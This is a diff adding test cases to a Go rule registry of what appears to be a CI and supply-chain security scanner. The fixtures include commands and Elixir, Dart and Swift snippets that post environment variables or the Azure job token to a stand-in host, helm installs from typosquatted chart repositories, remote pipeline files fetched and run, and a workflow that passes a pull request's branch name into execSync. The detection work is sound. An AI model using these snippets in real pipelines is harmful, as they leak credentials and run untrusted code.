@@ -392,6 +392,13 @@ var registry = []Rule{
 		"the runner's tokens and secrets leave for a machine outside", []Case{
 			{"x.sh", `curl -s -d "$(env)" https://x.invalid/c`, 0, false},
 			{"x.sh", "env | xargs -I{} curl https://x.invalid/{}", 0, false},
+			// Azure Pipelines' job token handed to another host; to Azure DevOps it is its use.
+			{"azure-pipelines.yml", "steps:\n  - script: curl -s -H \"Authorization: Bearer $(System.AccessToken)\" https://x.invalid/c", 0, false},
+			{"azure-pipelines.yml", "steps:\n  - script: curl -s -u \":$(System.AccessToken)\" \"https://dev.azure.com/acme/_apis/build/builds?api-version=7.0\"\n  - script: curl -s -H \"Authorization: Bearer $(System.AccessToken)\" https://acme.visualstudio.com/_apis/projects", 0, true},
+			// The environment posted by Elixir's, Dart's and Swift's clients.
+			{"lib/x.ex", "HTTPoison.post!(\"https://x.invalid/c\", Jason.encode!(System.get_env()))", 0, false},
+			{"tool/x.dart", "import 'dart:io';\nvoid main() async {\n  final r = await HttpClient().postUrl(Uri.parse('https://x.invalid/c'));\n  r.write(Platform.environment.toString());\n  await r.close();\n}", 4, false},
+			{"Sources/x.swift", "var r = URLRequest(url: URL(string: \"https://x.invalid/c\")!)\nr.httpMethod = \"POST\"\nr.httpBody = ProcessInfo.processInfo.environment.description.data(using: .utf8)\nURLSession.shared.dataTask(with: r).resume()", 2, false},
 			// Mail carries what it reads as well as a socket does.
 			{"x.sh", "env | mail -s report ops@x.invalid", 0, false},
 			{"x.sh", `swaks --to a@x.invalid --body "$(env)"`, 0, false},
@@ -890,6 +897,7 @@ var registry = []Rule{
 			// the packages.
 			{"project.clj", "(defproject acme/ledger \"0.9.0\"\n  :repositories [[\"internal\" \"https://maven.acme-builds.x.invalid/releases\"]])", 2, false},
 			{"Chart.yaml", "dependencies:\n  - name: app\n    repository: https://charts.x.invalid/stable", 3, false},
+			{"x.sh", "helm repo add corp https://charts.x.invalid/stable", 1, false},
 		}},
 	{"source-switched", KindDependency, High, "switches where a dependency, image, submodule or hook comes from",
 		"the same name now fetches code from another owner or host", []Case{
@@ -1045,6 +1053,15 @@ var registry = []Rule{
 			// registry's or forge's.
 			{"x.sh", "pip install https://files.pythonhosted-cdn.invalid/packages/requests-2.32.3.tar.gz", 1, false},
 			{"x.sh", "pip install git+https://gitlab-mirror.invalid/acme/lib.git@v1.0", 1, false},
+			// A chart's values: the registry and the images its templates run.
+			{"charts/app/values.yaml", "image:\n  registry: docker-io.invalid\n  repository: bitnami/redis", 2, false},
+			{"charts/app/values.yaml", "image:\n  repository: bitnarni/redis\n  tag: 7.2", 2, false},
+			{"charts/app/values.yaml", "image:\n  registry: docker.io\n  repository: bitnami/redis\n  tag: 7.2\nmetrics:\n  image:\n    repository: docker.io/velero/velero\nservice:\n  repository: ghcr.io/acme/api", 0, true},
+			// A chart repository, chart, remote or git source a command
+			// names, wherever a shell line runs.
+			{"x.sh", "helm repo add bitnami https://charts.bitnami-mirror.invalid/bitnami\nhelm install redis bitnami/redis", 1, false},
+			{"Makefile", "deps:\n\thelm install pg oci://registry-1.docker-io.invalid/bitnamicharts/postgresql", 2, false},
+			{"x.sh", "helm repo add bitnami https://charts.bitnami.com/bitnami\nhelm upgrade --install pg oci://registry-1.docker.io/bitnamicharts/postgresql\ncargo install --git https://github.com/rust-lang/rust-clippy clippy", 0, true},
 			// Any file's URL on a forge's host worn in front of another
 			// domain: no real host is named so.
 			{"config/vendor.yaml", "libs:\n  - mirror: https://github.com.mirror-git.x.invalid/acme/lib.git", 2, false},
@@ -1065,6 +1082,13 @@ var registry = []Rule{
 		"the CI system fetches it whenever the pipeline starts and runs it with the job's token and secrets; it is not in this diff, and its owner can change it after the review", []Case{
 			{".gitlab-ci.yml", "include:\n  - remote: https://ci-templates.x.invalid/python/latest.yml\n\ntest:\n  script: make test", 2, false},
 			{".gitlab-ci.yml", "include: 'https://ci-templates.x.invalid/python.yml'\ntest:\n  script: make test", 1, false},
+			// A pipeline file a job downloads and hands on: CircleCI's
+			// continuation, GitLab's child pipeline from an artifact,
+			// Buildkite's upload; one the repository's script writes is its own.
+			{".circleci/config.yml", "version: 2.1\nsetup: true\norbs:\n  continuation: circleci/continuation@1.0.0\njobs:\n  gen:\n    docker: [{ image: cimg/base:current }]\n    steps:\n      - run: curl -fsSL https://x.invalid/c.yml -o /tmp/c.yml\n      - continuation/continue:\n          configuration_path: /tmp/c.yml", 11, false},
+			{".gitlab-ci.yml", "gen:\n  script:\n    - wget -qO child.yml https://x.invalid/child.yml\n  artifacts:\n    paths: [child.yml]\nrun-child:\n  trigger:\n    include:\n      - artifact: child.yml\n        job: gen", 9, false},
+			{".buildkite/pipeline.yml", "steps:\n  - command: curl -fsSL https://x.invalid/p.yml | buildkite-agent pipeline upload", 2, false},
+			{".gitlab-ci.yml", "gen:\n  script:\n    - python ci/gen.py > child.yml\n  artifacts:\n    paths: [child.yml]\nrun-child:\n  trigger:\n    include:\n      - artifact: child.yml\n        job: gen", 0, true},
 			// Cirrus CI's Starlark modules and a Tekton task a git resolver
 			// fetches, at a branch of someone's repository.
 			{".cirrus.star", "load(\"github.com/someone/cirrus-helpers@main\", \"task\")\n\ndef main(ctx):\n    return [task(\"test\")]", 1, false},
@@ -1132,6 +1156,9 @@ var registry = []Rule{
 			{".github/workflows/a.yml", "on: check_suite\njobs:\n  a:\n    steps:\n      - run: ./notify.sh \"${{ github.event.check_suite.head_branch }}\"", 5, false},
 			{".github/workflows/a.yml", "on: check_run\njobs:\n  a:\n    steps:\n      - run: echo '${{ github.event.check_run.output.summary }}' >> report.md", 5, false},
 			{".github/workflows/a.yml", "on: repository_dispatch\njobs:\n  a:\n    steps:\n      - run: ./deploy.sh ${{ github.event.client_payload.environment }}", 5, false},
+			// A script that binds the pull request's text and hands it to a
+			// shell.
+			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            const branch = context.payload.pull_request.head.ref\n            require('child_process').execSync(`git log origin/${branch}`)", 10, false},
 			// The base branch is the repository's own.
 			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: git diff origin/${{ github.event.pull_request.base.ref }}", 0, true},
 		}},
